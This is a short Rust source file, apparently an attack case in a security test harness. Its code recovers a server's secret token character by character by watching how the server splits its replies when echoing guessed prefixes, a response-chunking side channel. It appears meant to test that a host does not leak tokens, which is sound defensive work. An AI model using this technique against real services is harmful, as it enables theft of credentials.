//! Reads the token letter by letter: has the server repeat guesses, and looks in what parts they come back. A host that
//! holds back what looks like the beginning of a token tells a guess that is right from one that is wrong.

use hostile_guests::{Request, attack, config};

attack!(run);

const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz0123456789";

fn run(_: String) -> String {
    let mut known = String::new();
    // Behind its end every letter is as good as another.
    while known.len() < config("token").len()
        && let Some(letter) = next(&known)
    {
        known.push(letter);
    }
    format!("the token begins with {known:?}")
}

/// The letter whose answer came in other parts than those of all others.
fn next(known: &str) -> Option<char> {
    let parts = |letter: char| Request::post(format!("{known}{letter}").as_bytes()).parts().unwrap_or_default();
    let all: Vec<(char, Vec<usize>)> = LETTERS.chars().map(|letter| (letter, parts(letter))).collect();
    let alone = |(_, parts): &&(char, Vec<usize>)| all.iter().filter(|(_, other)| other == parts).count() == 1;
    all.iter().find(alone).map(|(letter, _)| *letter)
}
